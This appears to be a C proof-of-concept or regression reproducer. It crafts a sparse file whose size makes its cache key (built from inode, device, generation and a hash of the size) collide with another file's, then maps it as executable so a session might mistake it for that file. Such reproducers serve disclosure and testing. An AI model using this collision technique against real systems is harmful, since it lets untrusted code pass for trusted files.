// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * collide.c - a user's file that a session could mistake for another one
 *
 *	collide FILE DIR	creates a sparse file in DIR, which is on the
 *				same file system as FILE, and maps it as code.
 *				It chooses the size such that the new file has
 *				the key by which sessions used to cache FILE:
 *				inode number ^ device << 32 ^
 *				generation << 16 ^ hash_long(size)
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#define GOLDEN	0x61c8864680b583ebULL	/* GOLDEN_RATIO_64 in the kernel's linux/hash.h */

/* Return the inverse of the odd number n modulo 2^64. */
static uint64_t inverse(uint64_t n)
{
	uint64_t x = n;
	int i;

	for (i = 0; i < 6; i++)
		x *= 2 - n * x;
	return x;
}

int main(int argc, char **argv)
{
	struct stat theirs, own;
	char path[256];
	uint64_t size;
	int i, fd;

	if (stat(argv[1], &theirs)) {
		perror(argv[1]);
		return 1;
	}
	for (i = 0; i < 64; i++) {
		snprintf(path, sizeof(path), "%s/%d", argv[2], i);
		fd = open(path, O_RDWR | O_CREAT, 0755);
		if (fd < 0 || fstat(fd, &own)) {
			perror(path);
			return 1;
		}
		size = ((uint64_t)theirs.st_size * GOLDEN ^ theirs.st_ino ^ own.st_ino) * inverse(GOLDEN);
		if (size < 4096 || size > INT64_MAX - 4096 || ftruncate(fd, size))
			continue;
		if (write(fd, "not a program", 13) < 0 || mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED) {
			perror("collide: mmap");
			return 1;
		}
		puts("mapped");
		return 0;
	}
	fputs("collide: no file may be that large\n", stderr);
	return 1;
}
